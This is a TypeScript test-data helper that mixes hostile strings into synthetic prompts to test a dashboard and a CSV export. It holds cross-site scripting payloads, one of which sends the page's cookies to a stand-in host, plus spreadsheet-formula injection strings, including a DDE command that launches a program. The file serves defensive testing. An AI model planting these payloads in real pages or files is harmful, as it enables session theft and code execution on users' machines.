/**
 * Hostile and awkward input that real logs contain: markup and script that a
 * dashboard must never execute, spreadsheet-formula prefixes that a CSV export
 * must neutralise, and a few huge pastes that must not blow up ingest.
 */
import { Rng } from '../random';
import { paragraph } from './filler';

const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(document.domain)>',
  '<a href="javascript:alert(1)">click</a>',
  '"><iframe src=//evil.example></iframe>',
  '</textarea><script>fetch("//x.example/?c="+document.cookie)</script>',
];
const FORMULAS = ['=HYPERLINK("http://evil.example","click")', '=1+1', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '=IMPORTXML(A1,"//a")'];

/** Rarely, wrap a prompt in markup or prefix it with a formula character. */
export function spice(prompt: string, r: Rng): string {
  const x = r.next();
  if (x < 0.0015) return `${prompt} ${r.pick(MARKUP)}`;
  if (x < 0.0025) return `${r.pick(MARKUP)} ${prompt}`;
  if (x < 0.004) return `${r.pick(FORMULAS)} ${prompt}`;
  if (x < 0.005) return `${r.pick(['=', '+', '-', '@'])}${prompt}`;
  return prompt;
}

/** A ~100 KB paste (a log or a document); built once per run, reused. */
export function hugePaste(r: Rng): string {
  let s = r.chance(0.5) ? 'Here is the full log, what went wrong?\n' : 'Summarize this document:\n';
  while (s.length < 100_000) s += `${new Date(1790000000000 + s.length * 997).toISOString()} ${paragraph(r, 2)}\n`;
  return s;
}
